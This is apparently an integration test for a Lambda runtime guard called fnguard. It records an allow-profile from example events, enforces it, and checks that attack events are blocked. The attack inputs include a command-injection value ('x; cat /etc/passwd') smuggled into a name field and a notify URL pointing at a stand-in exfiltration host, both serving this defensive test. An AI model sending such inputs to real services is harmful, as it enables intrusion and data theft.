#!/usr/bin/env python3
# SPDX-License-Identifier: MIT
"""TAP: the quickstart's function (examples/python-container) as Lambda runs
it, through the local Runtime API: record a profile over the example events
(rules first seen while serving an event are "phase": "invoke"), enforce it
on the same events (same answers, zero violations), then on the attack
events (exactly the injected command and the unlisted host are denied, and
the function keeps serving); `fnguard learn` on the run's log gives the same
profile as `record`, and `fnguard diff` shows the attack as drift."""
import filecmp
import json
import os
import subprocess
import sys

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import rt  # noqa: E402

EXAMPLE = os.path.join(rt.SOURCE, "examples", "python-container")
LAMBDA = os.path.join(rt.SOURCE, "tests", "lambda")


def lambda_run(work, events, tag, runtime_cmd):
    """One emulated Lambda environment, the Runtime API on loopback."""
    results, log = os.path.join(work, f"{tag}.results.jsonl"), os.path.join(work, f"{tag}.log")
    cmd = [rt.PYTHON, os.path.join(LAMBDA, "runtime_api.py"), "--events", events,
           "--results", results, "--log", log, "--timeout", "90",
           "--env", "_HANDLER=app.handler", "--env", f"LAMBDA_TASK_ROOT={EXAMPLE}",
           "--env", f"LAMBDA_RUNTIME_DIR={LAMBDA}",
           "--env", f"FNGUARD_PROFILE_PATH={os.path.join(rt.SOURCE, 'profiles')}",
           "--env", "AWS_LAMBDA_FUNCTION_NAME=quickstart", "--env", "PYTHONDONTWRITEBYTECODE=1",
           "--", os.path.join(LAMBDA, "runtime.sh")] + runtime_cmd
    p = subprocess.run(cmd, capture_output=True, text=True, env=rt.clean_env(), timeout=120)
    answers = []
    if os.path.exists(results):
        answers = [json.loads(line) for line in open(results) if line.strip()]
    text = open(log, encoding="utf-8", errors="replace").read() if os.path.exists(log) else ""
    result = rt.Result(p.returncode, p.stdout, p.stderr, text)
    result.answers = answers
    result.log_path = log
    return result


def greetings(answers):
    return [(a.get("status"), (a.get("response") or {}).get("greeting")) for a in answers]


def main():
    tap = rt.Tap()
    work = rt.scratch("fnguard-rt-qs-")
    try:
        local = os.path.join(work, "local.json")
        subprocess.run([rt.PYTHON, os.path.join(LAMBDA, "lambda_test.py"), "local-profile",
                        "python", local], check=True, env=rt.clean_env())
        profile = os.path.join(work, "profile.json")
        bootstrap = [rt.PYTHON, os.path.join(LAMBDA, "bootstrap.py")]
        options = ["--extends", "python", "--extends", local, "--name", "quickstart"]
        events = os.path.join(EXAMPLE, "events.jsonl")

        rec = lambda_run(work, events, "record",
                         [rt.FNGUARD, "record", "-o", profile, *options, "--"] + bootstrap)
        tap.ok(rec.rc == 0 and len(rec.answers) == 4 and
               all(a["status"] == "success" for a in rec.answers),
               "record: every example event is answered", rec.diag())
        learned = rt.load(profile) if os.path.exists(profile) else {}
        check = subprocess.run([rt.FNGUARD, "check", profile], capture_output=True, text=True,
                               env=rt.clean_env())
        tap.ok(check.returncode == 0, "the learned profile checks", check.stderr)
        tap.ok("not allowed by the learned profile" not in rec.log,
               "everything observed is allowed by the generalised profile")
        execs = learned.get("exec", [])
        tap.ok(execs and all(e.get("phase") == "invoke" for e in execs),
               "what the handler runs per event is phase invoke", json.dumps(execs))
        learns = rec.of_type("learn")
        tap.ok(any("requestId" not in e for e in learns) and
               any(e.get("requestId") for e in learns),
               "the cold start's learn events have no request id, the invocations' do")
        tap.ok(not learned.get("files") and not learned.get("network"),
               "every file and endpoint is in what the profile extends", json.dumps(learned))
        # Each greeting ran `sh -c "echo ..., NAME"`: the code differs, so each is its own rule.
        tap.ok(len(execs) == 4 and all(e["argv"][:2] == ["/bin/sh", "-c"] for e in execs),
               "shell commands are never generalised to '*'", json.dumps(execs))

        again = lambda_run(work, events, "enforce",
                           [rt.FNGUARD, "run", "--profile", profile, "--mode", "enforce",
                            "--"] + bootstrap)
        tap.ok(again.rc == 0 and greetings(again.answers) == greetings(rec.answers),
               "enforce: the same answers", again.diag())
        tap.ok(not rt.violations(again) and again.of_type("start"),
               "enforce: zero violation events",
               "\n".join(json.dumps(v) for v in rt.violations(again)))

        attack_events = rt.write(os.path.join(work, "attack.jsonl"), "\n".join([
            '{"name": "alice"}', '{"name": "x; cat /etc/passwd"}',
            '{"name": "alice", "notify": "http://exfil.example.net/collect"}',
            '{"name": "Bob"}']) + "\n")
        attack = lambda_run(work, attack_events, "attack",
                            [rt.FNGUARD, "run", "--profile", profile, "--mode", "enforce",
                             "--"] + bootstrap)
        seen = {(v.get("category"), v.get("target")) for v in rt.violations(attack)}
        want = {("exec", "/bin/sh"), ("network", "exfil.example.net:80")}
        tap.ok(seen == want, "attack: exactly the injected command and the unlisted host",
               f"got {sorted(map(str, seen))}\n{attack.diag()}")
        tap.ok(all(v.get("requestId") and v.get("action") == "blocked"
                   for v in rt.violations(attack)),
               "attack: blocked and logged with the request id")
        status = [a["status"] for a in attack.answers]
        tap.ok(status[0] == "success" and status[3] == "success",
               "attack: the function keeps serving", json.dumps(attack.answers))

        # The run's log, as CloudWatch would keep it, gives the same profile.
        relearned = os.path.join(work, "relearned.json")
        env = rt.clean_env({"LAMBDA_TASK_ROOT": EXAMPLE, "LAMBDA_RUNTIME_DIR": LAMBDA})
        p = subprocess.run([rt.FNGUARD, "learn", rec.log_path, "-o", relearned, *options],
                           capture_output=True, text=True, env=env)
        same = p.returncode == 0 and filecmp.cmp(relearned, profile, shallow=False)
        diag = p.stderr
        if p.returncode == 0 and not same:
            diag += subprocess.run(["diff", "-u", profile, relearned], capture_output=True,
                                   text=True).stdout
        tap.ok(same, "learn from the function's log gives the same profile as record", diag)
        d = subprocess.run([rt.FNGUARD, "diff", profile, attack.log_path], capture_output=True,
                           text=True, env=env)
        tap.ok(d.returncode == 1 and "cat /etc/passwd" in d.stdout and
               "host exfil.example.net ports 80" in d.stdout,
               "diff PROFILE LOG shows the attack as drift", d.stdout + d.stderr)
    finally:
        rt.rmtree(work)
    return tap.done()


if __name__ == "__main__":
    sys.exit(main())
